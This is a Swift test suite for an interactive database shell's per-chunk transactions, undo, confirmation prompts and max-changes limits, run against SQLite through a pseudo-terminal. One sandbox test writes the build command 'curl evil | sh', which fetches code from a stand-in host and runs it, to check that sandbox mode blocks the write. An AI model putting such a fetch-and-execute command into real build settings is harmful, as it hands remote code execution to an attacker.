import Foundation
import Testing

/// Issue "At 3 a.m.": each chunk at the prompt is one transaction, a large
/// one is confirmed first, a committed one can be undone, and a script can
/// cap the rows it changes. Through a real pty, with the sqlite3 CLI as
/// the other process.
@Suite struct ChunkTransactionTests {
    /// A database with `notes` (ids 1…20, body 'n1'…'n20') and `loose`, a
    /// table without a PRIMARY KEY (SQLite records no changeset for it).
    func prepared() throws -> Sandbox {
        let sandbox = try Sandbox()
        try sandbox.createDatabase()
        try sandbox.sqlite("""
            CREATE TABLE notes (id INTEGER PRIMARY KEY, body TEXT);
            WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 20)
            INSERT INTO notes SELECT i, 'n' || i FROM n;
            CREATE TABLE loose (a);
            INSERT INTO loose VALUES (1), (2), (3);
            """)
        return sandbox
    }

    func shell(_ sandbox: Sandbox, _ extra: [String] = []) throws -> PseudoTerminal {
        let terminal = try PseudoTerminal(arguments: ["--db", sandbox.database] + extra, environment: sandbox.environment)
        terminal.expect("opsh> ")
        return terminal
    }

    func leave(_ terminal: PseudoTerminal) {
        terminal.send("\u{4}")
        #expect(terminal.waitForExit() == 0)
    }

    @Test func aChunkLandsWholeOrNotAtAll() throws {
        let sandbox = try prepared()
        let terminal = try shell(sandbox)
        // An error after a write: the write is not kept either.
        terminal.send("db.exec(\"UPDATE notes SET body = 'x' WHERE id <= 3\"); error('stop here')\r")
        terminal.expect("stop here")
        terminal.expect("opsh> ")
        #expect(try sandbox.sqlite("SELECT count(*) FROM notes WHERE body = 'x'") == "0")
        // Ctrl-C in a loop after a write: rolled back.
        terminal.send("db.exec(\"UPDATE notes SET body = 'y' WHERE id <= 3\"); print('spin' .. 'ning'); while true do end\r")
        terminal.expect("spinning")
        terminal.send("\u{3}")
        terminal.expect("interrupted; the chunk was rolled back")
        terminal.expect("opsh> ")
        #expect(try sandbox.sqlite("SELECT count(*) FROM notes WHERE body = 'y'") == "0")
        // Control: the same write without the error is committed, and says so.
        terminal.send("db.exec(\"UPDATE notes SET body = 'x' WHERE id <= 3\")\r")
        terminal.expect("committed: notes: 3 updated")
        terminal.expect("opsh> ")
        #expect(try sandbox.sqlite("SELECT count(*) FROM notes WHERE body = 'x'") == "3")
        leave(terminal)
    }

    // SQL that would end a chunk's transaction early: both engines in
    // TransactionControlTests.aChunkCannotBeEndedBySQL.

    /// kill -9 at the worst moments: while a chunk that wrote is still
    /// running, and while the question waits (its changes re-applied only
    /// on yes). Nothing of the chunk is kept, and the backend writes at once
    /// afterwards (no lock left behind).
    @Test func aKilledShellKeepsNothingOfItsChunk() throws {
        let sandbox = try prepared()
        let running = try shell(sandbox)
        running.send("db.exec(\"UPDATE notes SET body = 'k'\"); print('spin' .. 'ning'); while true do end\r")
        running.expect("spinning")   // killed after its write
        kill(running.pid, SIGKILL)
        #expect(running.waitForExit() == 128 + SIGKILL)
        #expect(try sandbox.sqlite("SELECT count(*) FROM notes WHERE body = 'k'") == "0")
        let asking = try shell(sandbox)
        asking.send(".confirm 5\r")
        asking.expect("opsh> ")
        asking.send("db.exec(\"UPDATE notes SET body = 'q'\")\r")
        asking.expect("commit? [y/N] ")
        kill(asking.pid, SIGKILL)
        #expect(asking.waitForExit() == 128 + SIGKILL)
        #expect(try sandbox.sqlite("SELECT count(*) FROM notes WHERE body = 'q'") == "0")
        let backend = try sandbox.run("/usr/bin/sqlite3", [sandbox.database, ".timeout 100", "UPDATE notes SET body = 'b' WHERE id = 3"])
        #expect(backend.status == 0, "\(backend.stderr)")
        #expect(try sandbox.sqlite("PRAGMA integrity_check") == "ok")
    }

    @Test func aChunkThatOnlyReadsTakesNoLockAndAWaitAfterAWriteIsRefused() throws {
        let sandbox = try prepared()
        let terminal = try shell(sandbox)
        // Reading while another process holds the write lock: at once.
        try sandbox.whileAnotherProcessHolds("BEGIN IMMEDIATE;") {
            terminal.send("=db.value('SELECT count(*) FROM notes')\r")
            terminal.expect("20", timeout: 2)
            terminal.expect("opsh> ")
        }
        // Waiting after the chunk wrote would hold the lock meanwhile.
        terminal.send("db.exec(\"UPDATE notes SET body = 'w' WHERE id = 1\"); opsh.wait(0)\r")
        terminal.expect("opsh.wait cannot wait inside a chunk that has written")
        terminal.expect("opsh> ")
        #expect(try sandbox.sqlite("SELECT body FROM notes WHERE id = 1") == "n1")
        // Control: the wait first, then the write.
        terminal.send("opsh.wait(0); db.exec(\"UPDATE notes SET body = 'w' WHERE id = 1\")\r")
        terminal.expect("committed: notes: 1 updated")
        terminal.expect("opsh> ")
        #expect(try sandbox.sqlite("SELECT body FROM notes WHERE id = 1") == "w")
        leave(terminal)
    }

    @Test func aLargeChunkAsksFirstAndTheBackendNeverWaitsOnTheQuestion() throws {
        let sandbox = try prepared()
        let terminal = try shell(sandbox)
        terminal.send(".confirm 5\r")
        terminal.expect("opsh> ")
        terminal.send("db.exec(\"UPDATE notes SET body = 'big'\")\r")
        terminal.expect("this chunk changes 20 rows:")
        terminal.expect("notes: 0 inserted, 20 updated, 0 deleted")
        terminal.expect("commit? [y/N] ")
        // While the question waits, another process writes at once (its
        // busy timeout is 100 ms): the chunk holds no lock meanwhile.
        let backend = try sandbox.run("/usr/bin/sqlite3", [sandbox.database, ".timeout 100", "INSERT INTO loose VALUES (99)"])
        #expect(backend.status == 0, "the backend's write failed while the shell asked: \(backend.stderr)")
        terminal.send("n\r")
        terminal.expect("rolled back: nothing was changed")
        terminal.expect("opsh> ")
        #expect(try sandbox.sqlite("SELECT count(*) FROM notes WHERE body = 'big'") == "0")
        // Yes commits it.
        terminal.send("db.exec(\"UPDATE notes SET body = 'big'\")\r")
        terminal.expect("commit? [y/N] ")
        terminal.send("y\r")
        terminal.expect("committed: notes: 20 updated")
        terminal.expect("opsh> ")
        #expect(try sandbox.sqlite("SELECT count(*) FROM notes WHERE body = 'big'") == "20")
        // A row changed by someone else while the question waited: nothing
        // is committed, the other write stays.
        terminal.send("db.exec(\"UPDATE notes SET body = 'again'\")\r")
        terminal.expect("commit? [y/N] ")
        try sandbox.sqlite("UPDATE notes SET body = 'theirs' WHERE id = 7")
        terminal.send("y\r")
        terminal.expect("the chunk was not committed")
        terminal.expect("notes (7): changed since")
        terminal.expect("opsh> ")
        #expect(try sandbox.sqlite("SELECT count(*) FROM notes WHERE body = 'again'") == "0")
        #expect(try sandbox.sqlite("SELECT body FROM notes WHERE id = 7") == "theirs")
        leave(terminal)
    }

    @Test func aChunkTheChangesetCannotHoldKeepsTheLockWhileAsking() throws {
        // The control of the test above: `loose` has no PRIMARY KEY, so the
        // chunk cannot be rolled back and re-applied; the shell asks while
        // holding the lock, and the backend's short busy timeout runs out.
        let sandbox = try prepared()
        let terminal = try shell(sandbox)
        terminal.send(".confirm 1\r")
        terminal.expect("opsh> ")
        terminal.send("db.exec('UPDATE loose SET a = a + 10')\r")
        terminal.expect("commit? [y/N] ")
        let backend = try sandbox.run("/usr/bin/sqlite3", [sandbox.database, ".timeout 100", "INSERT INTO notes (body) VALUES ('b')"])
        #expect(backend.status != 0)
        #expect(backend.stderr.contains("database is locked"))
        terminal.send("y\r")
        terminal.expect("committed: loose: 3 updated — undo() cannot take it back: it changed loose, which has no PRIMARY KEY")
        terminal.expect("opsh> ")
        #expect(try sandbox.sqlite("SELECT sum(a) FROM loose") == "36")
        leave(terminal)
    }

    @Test func aLargeDeleteAsksForTheTableNameAndNoAnswerRollsBack() throws {
        let sandbox = try prepared()
        let terminal = try shell(sandbox)
        terminal.send(".confirm 1\r")
        terminal.expect("opsh> ")
        terminal.send("db.exec('DELETE FROM notes WHERE id > 5')\r")
        terminal.expect("it deletes 15 rows from notes: type the table's name to commit")
        terminal.send("y\r")
        terminal.expect("rolled back: nothing was changed")
        terminal.expect("opsh> ")
        #expect(try sandbox.sqlite("SELECT count(*) FROM notes") == "20")
        terminal.send("db.exec('DELETE FROM notes WHERE id > 5')\r")
        terminal.expect("type the table's name to commit")
        terminal.send("notes\r")
        terminal.expect("committed: notes: 15 deleted")
        terminal.expect("opsh> ")
        #expect(try sandbox.sqlite("SELECT count(*) FROM notes") == "5")
        // No answer: rolled back after 10 s.
        terminal.send("db.exec('DELETE FROM notes')\r")
        terminal.expect("commit? [y/N] ")
        terminal.expect("no answer in 10 s: rolled back", timeout: 15)
        terminal.expect("opsh> ")
        #expect(try sandbox.sqlite("SELECT count(*) FROM notes") == "5")
        leave(terminal)
    }

    @Test func undoTakesBackAChunkUnlessSomeoneElseChangedItsRows() throws {
        let sandbox = try prepared()
        let terminal = try shell(sandbox)
        terminal.send("db.exec(\"UPDATE notes SET body = 'u' WHERE id <= 4\"); db.exec('DELETE FROM notes WHERE id = 20')\r")
        terminal.expect("committed: notes: 4 updated, 1 deleted — undo() takes it back")
        terminal.expect("opsh> ")
        terminal.send("undo()\r")
        terminal.expect("undoes chunk 1")
        terminal.expect("opsh> ")
        #expect(try sandbox.sqlite("SELECT group_concat(body) FROM notes WHERE id <= 4 OR id = 20") == "n1,n2,n3,n4,n20")
        // The undo is a chunk too: undoing it brings the change back.
        terminal.send("undo()\r")
        terminal.expect("undoes chunk 2")
        terminal.expect("opsh> ")
        #expect(try sandbox.sqlite("SELECT count(*) FROM notes WHERE body = 'u'") == "4")
        // Another process changes one of those rows: undo changes nothing.
        try sandbox.sqlite("UPDATE notes SET body = 'backend' WHERE id = 2")
        terminal.send("undo()\r")
        terminal.expect("undo changed nothing")
        terminal.expect("notes (2): changed since")
        terminal.expect("opsh> ")
        #expect(try sandbox.sqlite("SELECT group_concat(body) FROM notes WHERE id <= 4") == "u,backend,u,u")
        // undo(n) counts back over the chunks that changed data (1, 2, 3,
        // then this insert); one already undone is refused.
        terminal.send("db.exec(\"INSERT INTO notes (id, body) VALUES (100, 'new')\")\r")
        terminal.expect("committed: notes: 1 inserted")
        terminal.send("undo(4)\r")
        terminal.expect("chunk 1 was already undone by chunk 2")
        terminal.send("undo(1)\r")
        terminal.expect("undoes chunk 4")
        terminal.expect("opsh> ")
        #expect(try sandbox.sqlite("SELECT count(*) FROM notes WHERE id = 100") == "0")
        leave(terminal)
    }

    /// The chunk's connection is the session's own: the sandbox's
    /// protection of build commands holds there too.
    @Test func theSandboxProtectsBuildCommandsOnTheChunksConnection() throws {
        let sandbox = try prepared()
        #expect(try sandbox.opsh(["-e", """
            projects.insert{ bundleIdentifier = 'p', name = 'P', gitRepositoryURL = '/p' }
            schemes.insert{ projectBundleIdentifier = 'p', name = 'R', buildCommand = 'make', platforms = {'linux'} }
            """]).status == 0)
        let change = "db.exec(\"UPDATE notes SET body = 'c' WHERE id = 1\"); db.exec(\"UPDATE schemes SET buildCommand = 'curl evil | sh'\")\r"
        let confined = try shell(sandbox, ["--sandbox"])
        confined.send(change)
        confined.expect("sandbox: the buildCommand of a scheme cannot be written")
        confined.expect("opsh> ")
        leave(confined)
        #expect(try sandbox.sqlite("SELECT buildCommand FROM schemes") == "make")
        #expect(try sandbox.sqlite("SELECT body FROM notes WHERE id = 1") == "n1")
        // Control: without --sandbox the same chunk commits.
        let open = try shell(sandbox)
        open.send(change)
        open.expect("committed: notes: 1 updated; schemes: 1 updated")
        open.expect("opsh> ")
        leave(open)
        #expect(try sandbox.sqlite("SELECT buildCommand FROM schemes") == "curl evil | sh")
    }

    /// A chunk that has not written holds no lock: a build started and
    /// followed in it streams its log (its writer is the store's, not the
    /// chunk's); after a write the same is refused with the reason.
    @Test func aBuildRunsAndIsFollowedInAChunkUntilItWrites() throws {
        let sandbox = try prepared()
        let repository = try sandbox.gitRepository(tags: ["v1.0.0"])
        let terminal = try shell(sandbox)
        terminal.send("projects.insert{ bundleIdentifier = 'p', name = 'P', gitRepositoryURL = '\(repository)' }; s = schemes.insert{ projectBundleIdentifier = 'p', name = 'R', buildCommand = 'echo built-it', platforms = {'linux'} }\r")
        terminal.expect("committed: ")
        terminal.expect("opsh> ")
        terminal.send("b = jobs.start{ scheme = s.id, version = 'v1.0.0' }; print('status', jobs.follow(b.id).status)\r")
        terminal.expect("built-it", timeout: 20)
        terminal.expect("status\tsucceeded", timeout: 20)
        terminal.expect("opsh> ")
        terminal.send("db.exec(\"UPDATE notes SET body = 'j' WHERE id = 1\"); jobs.start{ scheme = s.id, version = 'v1.0.0' }\r")
        terminal.expect("jobs.start cannot run inside a chunk that has written")
        terminal.expect("opsh> ")
        leave(terminal)
        #expect(try sandbox.sqlite("SELECT body FROM notes WHERE id = 1") == "n1")
        #expect(try sandbox.sqlite("SELECT count(*) FROM builds WHERE status = 'succeeded'") == "1")
    }

    @Test func undoIsTheShellsAndAScriptSaysSo() throws {
        let sandbox = try prepared()
        let result = try sandbox.opsh(["-e", "undo()"])
        #expect(result.status == 1)
        #expect(result.stderr.contains("undo() takes back chunks typed at the interactive shell's prompt"))
    }

    @Test func maxChangesRollsBackARunWithTheCountsPerTable() throws {
        let sandbox = try prepared()
        let script = try sandbox.script("repair.lua", """
            db.exec("UPDATE notes SET body = 'r' WHERE id <= 2")
            db.exec("DELETE FROM notes WHERE id > 10")
            """)
        let refused = try sandbox.opsh(["run", "--max-changes", "5", script])
        #expect(refused.status == 1)
        #expect(refused.stderr.contains("the run changed 12 rows (notes: 2 updated, 10 deleted), more than its limit of 5"), "\(refused.stderr)")
        #expect(refused.stderr.contains("repair.lua:2"), "the error says where: \(refused.stderr)")
        #expect(try sandbox.sqlite("SELECT count(*) FROM notes WHERE body = 'r'") == "0")
        #expect(try sandbox.sqlite("SELECT count(*) FROM notes") == "20")
        // Control: a limit it stays within.
        let allowed = try sandbox.opsh(["run", "--max-changes", "12", script])
        #expect(allowed.status == 0, "\(allowed.stderr)")
        #expect(try sandbox.sqlite("SELECT count(*) FROM notes") == "10")

        // db.transaction(fn, { maxChanges = N }), also caught by pcall.
        let transaction = try sandbox.opsh(["-e", """
            print(pcall(db.transaction, function() db.exec("UPDATE notes SET body = 't'") end, { maxChanges = 3 }))
            db.transaction(function() db.exec("UPDATE notes SET body = 'ok' WHERE id = 1") end, { maxChanges = 3 })
            """])
        #expect(transaction.status == 0, "\(transaction.stderr)")
        #expect(transaction.stdout.contains("false"))
        #expect(transaction.stdout.contains("the transaction changed 10 rows (notes: 10 updated), more than its limit of 3"))
        #expect(try sandbox.sqlite("SELECT group_concat(body) FROM notes WHERE id <= 3") == "ok,r,n3")
    }
}
